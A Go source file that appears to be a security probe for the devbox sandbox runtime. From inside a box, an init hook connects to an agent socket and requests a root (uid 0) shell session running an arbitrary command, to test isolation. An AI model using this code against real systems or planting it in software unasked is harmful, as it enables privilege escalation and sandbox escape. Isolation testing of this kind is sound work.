package main

// probe agent SOCKET CMD: connect to a box agent's socket from inside a
// box and ask it for a uid 0 session running "sh -c CMD" on the probe's
// stdio. Prints "connect: …" and "reply: TYPE MESSAGE"; with a session,
// its output. Run from init, before main's switch, so that main.go's list
// needs no change.

import (
	"fmt"
	"os"

	"github.com/devbox-dev/devbox/runtime/agent"
)

func init() {
	if len(os.Args) < 4 || os.Args[1] != "agent" {
		return
	}
	os.Exit(agentAttack(os.Args[2], os.Args[3]))
}

func agentAttack(sock, cmd string) int {
	c, err := agent.DialAny(sock)
	result("connect", err)
	if err != nil {
		return 0
	}
	defer c.Close()
	req := agent.Request{Type: agent.TypeExec, Args: []string{"/bin/sh", "-c", cmd}, UID: 0, GID: 0,
		Env: []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin"}, Cwd: "/"}
	if err := c.Send(req, os.Stdin, os.Stdout, os.Stderr); err != nil {
		result("send", err)
		return 0
	}
	var rep agent.Reply
	if _, err := c.Receive(&rep); err != nil {
		result("reply", err)
		return 0
	}
	fmt.Printf("reply: %s %s\n", rep.Type, rep.Message)
	if rep.Type == agent.TypeStarted {
		_, _ = c.Receive(&rep) // the session's exit
		fmt.Printf("session: exit %d\n", rep.Code)
	}
	return 0
}
